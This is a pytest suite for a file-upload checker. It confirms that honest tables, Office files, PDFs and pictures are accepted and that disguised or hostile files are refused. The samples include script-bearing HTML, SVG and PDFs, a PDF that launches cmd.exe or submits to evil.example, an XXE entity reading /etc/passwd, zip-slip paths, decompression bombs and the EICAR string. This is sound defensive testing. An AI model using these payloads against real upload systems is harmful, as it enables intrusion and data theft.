"""B-08: files that are not what they say, hide something, or blow up. And their harmless twins."""

import io
import time
import zipfile
import zlib
from collections.abc import Callable

import pytest
from PIL import Image

from nahraum.base.files.rules import KINDS, FileRefused, check_content
from tests.base.files.samples import (
    CONTENT_TYPES,
    document,
    open_table,
    packed,
    pdf,
    photo,
    png_of_size,
    relation,
    with_entries,
    workbook,
)

ALL = tuple(KINDS)
HTML = b"<html><script>alert(1)</script></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"></svg>'
# No scanner may take this source for what it describes.
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-" + b"FILE!$H+H*"

GOOD: dict[str, tuple[Callable[[], bytes], str]] = {
    "table of today": ("Name;Straße\nVerein;Köln\n".encode, "csv"),
    "table with a mark": ("\ufeffName;Straße\n".encode, "csv"),
    "table of old Windows": (lambda: "Name;Straße\n".encode("cp1252"), "csv"),
    "table in wide characters": (lambda: "Name\tStraße\n".encode("utf-16"), "csv"),
    "table with formulas": (lambda: b"=1+1;@SUM(A1)\n", "csv"),
    "list": (lambda: b'[{"name": "Verein"}]', "json"),
    "calendar": (lambda: b"BEGIN:VCALENDAR\r\nVERSION:2.0\r\nEND:VCALENDAR\r\n", "ics"),
    "workbook": (workbook, "xlsx"),
    "workbook with a link": (
        lambda: with_entries(workbook(), {"xl/worksheets/_rels/s.rels": relation("hyperlink")}),
        "xlsx",
    ),
    "open table": (open_table, "ods"),
    "document": (document, "docx"),
    "archive": (lambda: packed({"stops.txt": "a,b\n", "ordner/x.csv": "1;2\n"}), "zip"),
    "paper": (pdf, "pdf"),
    "paper with a form": (lambda: pdf(b"/AcroForm << /Fields [] >>"), "pdf"),
    "paper that talks of programs": (lambda: pdf(stream=b"(JavaScript und Launch) Tj"), "pdf"),
    "photo": (photo, "jpeg"),
    "drawing": (lambda: photo(form="PNG"), "png"),
}


@pytest.mark.parametrize("sample", GOOD)
def test_honest_files_are_taken(sample: str) -> None:
    make, kind = GOOD[sample]
    content = make()
    taken = check_content(content, "Datei", ALL)
    assert taken.kind == kind
    assert taken.name == f"Datei.{KINDS[kind].endings[0]}"
    if kind not in ("jpeg", "png"):
        assert taken.content == content


def dotted_workbook(path: str) -> bytes:
    return packed({path: "x"})


def locked_archive() -> bytes:
    content = bytearray(packed({"a.txt": "secret"}))
    for mark, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        content[content.index(mark) + offset] |= 1
    return bytes(content)


def locked_table() -> bytes:
    """As LibreOffice locks it: the parts are no XML."""
    inside = {
        "META-INF/manifest.xml": "<m><manifest:encryption-data/></m>",
        "content.xml": b"\x8f\0\1",
    }
    return with_entries(open_table(), inside)


def test_a_locked_table_is_told_from_a_damaged_one() -> None:
    with pytest.raises(FileRefused, match="Passwort"):
        check_content(locked_table(), "liste.ods", ALL)


def test_a_table_with_control_signs_is_not_told_that_tables_are_taken() -> None:
    table = b"Name;Ort\nTest\0haus;K\xc3\xb6ln\nZwei;Drei\n"
    with pytest.raises(FileRefused, match="unsichtbare Steuerzeichen"):
        check_content(table, "liste.csv", ALL)


def test_who_hands_in_a_bomb_hears_what_would_help() -> None:
    with pytest.raises(FileRefused, match=r"blähen\. Als einfache XLSX neu speichern\."):
        check_content(bomb(), "liste.xlsx", ALL)


def bomb() -> bytes:
    return packed({"xl/workbook.xml": b"\0" * 150_000_000, CONTENT_TYPES: "<Types/>"})


def doubled() -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as archive:
        archive.writestr("a.txt", "one")
        with pytest.warns(UserWarning, match="Duplicate"):
            archive.writestr("a.txt", "two")
    return file.getvalue()


def object_stream(words: bytes) -> bytes:
    return pdf(stream=b"7 0 << " + words + b" >>")


def cut(content: bytes) -> bytes:
    return content[: len(content) // 2]


def broken_part() -> bytes:
    content = bytearray(document())
    place = content.index(b"word/document.xml") + 60
    content[place : place + 40] = b"\xff" * 40
    return bytes(content)


def types_of(kind: str) -> str:
    return f'<?xml version="1.0"?><Types><Override ContentType="{kind}.macroEnabled.main"/></Types>'


BAD: dict[str, Callable[[], bytes]] = {
    # not on the list
    "nothing": lambda: b"",
    "page": lambda: HTML,
    "page after blanks": lambda: b"\n \t" + HTML,
    "page after a mark": lambda: b"\xef\xbb\xbf" + HTML,
    "page in wide characters": lambda: HTML.decode().encode("utf-16"),
    "drawing with a program": lambda: SVG,
    "drawing with a head": lambda: b'<?xml version="1.0"?>' + SVG,
    "drawing with a doctype": lambda: b'<!DOCTYPE svg [<!ENTITY a "b">]>' + SVG,
    "animation": lambda: b"GIF89a/*" + b"\0" * 20 + b"*/=1;alert(1)",
    "program of Windows": lambda: b"MZ\x90\0" + b"\0" * 60 + b"PE\0\0",
    "program of Linux": lambda: b"\x7fELF\x02\x01\x01" + b"\0" * 60,
    "program of Java": lambda: b"\xca\xfe\xba\xbe\0\0\x004" + b"\0" * 60,
    "locked open table": locked_table,
    "old office": lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600,
    "packed by gzip": lambda: b"\x1f\x8b\x08" + b"\0" * 30,
    "packed by rar": lambda: b"Rar!\x1a\x07\x01\0" + b"\0" * 30,
    "packed by 7z": lambda: b"7z\xbc\xaf\x27\x1c" + b"\0" * 30,
    "modern picture": lambda: b"RIFF\x24\0\0\0WEBPVP8 " + b"\0" * 30,
    "picture of a phone": lambda: b"\0\0\0\x18ftypheic" + b"\0" * 30,
    "old bitmap": lambda: b"BM" + b"\0" * 60,
    "film": lambda: b"\0\0\0\x18ftypmp42" + b"\0" * 30,
    "rich text": lambda: b"{\\rtf1\\ansi{\\object\\objdata 0105}\0}",
    "table with NUL": lambda: b"a;b\n\0;2\n",
    "table that steers a terminal": lambda: b"a;\x1b]0;evil\x07b\n",
    "table with a bell": lambda: b"a;b\x07\n",
    "test virus": lambda: EICAR,
    "test virus in a table": lambda: b"Name;" + EICAR + b"\n",
    "test virus in an archive": lambda: packed({"a.txt": EICAR}, stored=True),
    # two things at once
    "picture and archive": lambda: packed({"a.txt": "x"}) + photo(),
    "something before an archive": lambda: b"MZ" + packed({"a.txt": "x"}),
    "something behind an archive": lambda: packed({"a.txt": "x"}) + HTML,
    "something behind a workbook": lambda: workbook() + HTML,
    "page in the head of a paper": lambda: pdf(head=b"% <html><script>alert(1)</script>\n"),
    "page in capitals in a paper": lambda: pdf(head=b"%<  SCRIPT>alert(1)</SCRIPT>\n"),
    "paper and archive": lambda: pdf() + packed({"a.txt": "x"}),
    "paper and page": lambda: pdf() + HTML,
    "paper behind a page": lambda: HTML + pdf(),
    "paper behind rubbish": lambda: b"\0" * 10 + pdf(),
    # papers
    "paper with a program": lambda: pdf(b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"),
    "paper with a written-out program": lambda: pdf(b"/OpenAction << /S /#4aavaScri#70t >>"),
    "paper with a packed program": lambda: object_stream(b"/S /JavaScript /JS (x)"),
    "paper with a packed, written-out program": lambda: object_stream(b"/S /JavaScrip#74"),
    "paper with a program far behind": lambda: object_stream(b"x " * 2_000_000 + b"/S /JavaScript"),
    "paper that starts programs": lambda: pdf(b"/OpenAction << /S /Launch /F (cmd.exe) >>"),
    "paper with an attachment": lambda: pdf(b"/Names << /EmbeddedFiles 5 0 R >>"),
    "paper with a film": lambda: pdf(b"/Subtype /RichMedia"),
    "paper with a living form": lambda: pdf(b"/AcroForm << /XFA 5 0 R >>"),
    "paper that sends": lambda: pdf(b"/A << /S /SubmitForm /F (https://evil.example) >>"),
    "paper that reads": lambda: pdf(b"/A << /S /ImportData /F (file) >>"),
    "paper under lock": lambda: pdf(b"/Encrypt 5 0 R"),
    "half a paper": lambda: cut(pdf()),
    "paper that is only a head": lambda: b"%PDF-1.7\n",
    "paper that blows up": lambda: pdf(stream=b"\0" * 410_000_000),
    "paper of too many parts": lambda: pdf(head=b"stream\nxx" * 20_001),
    # pictures
    "picture of a square mile": lambda: png_of_size(30_000, 30_000),
    "picture of one line": lambda: png_of_size(2_000_000_000, 1),
    "picture of no size": lambda: png_of_size(0, 0),
    "picture of a promise": lambda: png_of_size(6_000, 6_000),
    "half a photo": lambda: photo()[:200],
    "half a drawing": lambda: cut(photo(form="PNG")),
    "head of a photo": lambda: b"\xff\xd8\xff\xe0",
    "head of a drawing": lambda: b"\x89PNG\r\n\x1a\n",
    "photo that is a drawing": lambda: b"\xff\xd8\xff" + photo(form="PNG")[3:],
    # office files and archives
    "workbook with macros": lambda: with_entries(workbook(), {"xl/vbaProject.bin": b"x"}),
    "workbook that says it has macros": lambda: with_entries(
        workbook(), {CONTENT_TYPES: types_of("application/vnd.ms-excel.sheet")}
    ),
    "document with macros": lambda: with_entries(document(), {"word/vbaProject.bin": b"x"}),
    "document with a program inside": lambda: with_entries(
        document(), {"word/embeddings/oleObject1.bin": b"x"}
    ),
    "document with a switch": lambda: with_entries(
        document(), {"word/activeX/activeX1.xml": "<a/>"}
    ),
    "open table with macros": lambda: with_entries(open_table(), {"Basic/Standard/M.xml": "<a/>"}),
    "document with a foreign template": lambda: with_entries(
        document(), {"word/_rels/settings.xml.rels": relation("attachedTemplate")}
    ),
    "document with a written-out template": lambda: with_entries(
        document(),
        {
            "word/_rels/settings.xml.rels": relation("attachedTemplate").replace(
                "External", "&#69;xter&#x6e;al"
            )
        },
    ),
    "document with a foreign picture": lambda: with_entries(
        document(), {"word/_rels/document.xml.rels": relation("image", "\\\\evil.example\\a")}
    ),
    "document with a foreign frame": lambda: with_entries(
        document(), {"word/_rels/document.xml.rels": relation("frame")}
    ),
    "workbook with a foreign thing": lambda: with_entries(
        workbook(), {"xl/_rels/workbook.xml.rels": relation("oleObjectLink")}
    ),
    "document with definitions": lambda: with_entries(
        document(), {"word/document.xml": '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>'}
    ),
    "document with definitions behind blanks": lambda: with_entries(
        document(), {"word/document.xml": " " * 9_000 + '<!DOCTYPE a [<!ENTITY x "y">]>'}
    ),
    "document in wide characters": lambda: with_entries(
        document(), {"word/document.xml": '<!DOCTYPE a [<!ENTITY x "y">]>'.encode("utf-16")}
    ),
    "document in wide characters without a mark": lambda: with_entries(
        document(), {"word/document.xml": '<?xml version="1.0"?>'.encode("utf-16-be")}
    ),
    "document in a strange alphabet": lambda: with_entries(
        document(), {"word/document.xml": '<?xml version="1.0" encoding="utf-7"?>+ADw-a/+AD4-'}
    ),
    "archive that climbs": lambda: dotted_workbook("../../etc/cron.d/x"),
    "archive that climbs on Windows": lambda: dotted_workbook("..\\..\\x"),
    "archive that starts at the root": lambda: dotted_workbook("/etc/passwd"),
    "archive with a drive": lambda: dotted_workbook("C:/Windows/x"),
    "archive with a program": lambda: dotted_workbook("rechnung.pdf.exe"),
    "archive under lock": locked_archive,
    "archive of two with one name": doubled,
    "archive that blows up": bomb,
    "archive of a thousand and one": lambda: packed({f"{n}.txt": "" for n in range(1001)}),
    "half an archive": lambda: cut(workbook()),
    "archive of rubbish": lambda: b"PK\x03\x04" + b"\xff" * 300,
    "archive with a broken part": broken_part,
    # text that claims to be more
    "list without an end": lambda: b"[" * 100_000,
    "list with what is no number": lambda: b'[{"a": NaN}]',
    "list that breaks off": lambda: b'{"name": "Verein"',
}


@pytest.mark.parametrize("sample", BAD)
def test_hostile_files_are_refused_quickly(sample: str) -> None:
    content = BAD[sample]()
    started = time.process_time()
    with pytest.raises(FileRefused) as caught:
        check_content(content, "Rechnung.pdf", ALL)
    assert time.process_time() - started < 5
    sentence = caught.value.messages[0]
    assert sentence.endswith((".", "?"))
    assert "\0" not in sentence


def test_there_are_enough_of_them() -> None:
    assert len(BAD) >= 60


@pytest.mark.parametrize("sample", GOOD)
def test_each_kind_is_taken_only_where_it_was_asked_for(sample: str) -> None:
    make, kind = GOOD[sample]
    assert check_content(make(), "Datei", [kind]).kind == kind
    # Without a wish for lists, a list is lines of text.
    others = [name for name in ALL if name not in (kind, "csv")]
    with pytest.raises(FileRefused, match="Diese Art von Datei wird hier nicht angenommen"):
        check_content(make(), "Datei", others)


@pytest.mark.parametrize("kind", ALL)
def test_each_kind_has_its_size(kind: str) -> None:
    most = KINDS[kind].most
    with pytest.raises(FileRefused, match=f"höchstens {most // 1_000_000} MB"):
        check_content(b"a" * (most + 1), "Datei", [kind])


def test_a_table_as_large_as_allowed_is_taken() -> None:
    row = b"Verein;05264 123\n"
    content = row * (KINDS["csv"].most // len(row))
    assert check_content(content, "Tabelle", ["csv"]).content == content


# ---------------------------------------------------------------- what pictures know
KNOWN = [b"Anna", b"Kamera", b"GPS", b"Exif", b"eXIf", b"GEHEIM", b"xmp", b"iCCP", b"tEXt", b"iTXt"]


@pytest.mark.parametrize("form", ["JPEG", "PNG"])
def test_a_picture_forgets_where_it_was_taken(form: str) -> None:
    content = photo(form=form)
    kind = form.lower()
    taken = check_content(content, "haus", [kind]).content
    assert [word for word in KNOWN if word in taken] == []
    with Image.open(io.BytesIO(taken)) as picture:
        assert dict(picture.getexif()) == {}
        assert dict(picture.getexif().get_ifd(0x8825)) == {}
        assert set(picture.info) <= {"jfif", "jfif_version", "jfif_unit", "jfif_density"}
        assert picture.size == (60, 40)


@pytest.mark.parametrize("form", ["JPEG", "PNG"])
def test_twin_the_picture_as_it_came_knows_it(form: str) -> None:
    content = photo(form=form)
    assert len([word for word in KNOWN if word in content]) >= 3
    with Image.open(io.BytesIO(content)) as picture:
        assert picture.getexif().get_ifd(0x8825)[2] == (51.0, 58.0, 30.0)


def test_a_picture_taken_sideways_stands_upright() -> None:
    with Image.open(io.BytesIO(check_content(photo(turned=True), "x", ["jpeg"]).content)) as made:
        assert made.size == (40, 60)
        red, _green, blue = made.getpixel((20, 5))
        assert red > 150
        assert blue < 100


@pytest.mark.parametrize("form", ["JPEG", "PNG"])
@pytest.mark.parametrize("tail", [HTML, b"/*alert(1)*/", b"PK\x03\x04", b"\0" * 1000])
def test_what_hangs_behind_a_picture_falls_off(form: str, tail: bytes) -> None:
    taken = check_content(photo(form=form) + tail, "x", [form.lower()]).content
    assert tail not in taken


def test_a_drawing_keeps_what_can_be_seen_through() -> None:
    file = io.BytesIO()
    image = Image.new("P", (2, 1))
    image.putpalette([255, 0, 0, 0, 255, 0])
    image.putpixel((1, 0), 1)
    image.save(file, "PNG", transparency=1)
    taken = check_content(file.getvalue(), "x", ["png"]).content
    with Image.open(io.BytesIO(taken)) as made:
        clear = made.convert("RGBA")
        assert clear.getpixel((0, 0)) == (255, 0, 0, 255)
        assert clear.getpixel((1, 0))[3] == 0


# ---------------------------------------------------------------- twins of the rules
def test_twin_without_unpacking_the_packed_program_is_not_seen() -> None:
    hidden = object_stream(b"/S /JavaScript")
    assert b"JavaScript" not in hidden
    start = hidden.index(b"stream\n") + 7
    assert b"/JavaScript" in zlib.decompressobj().decompress(hidden[start:])
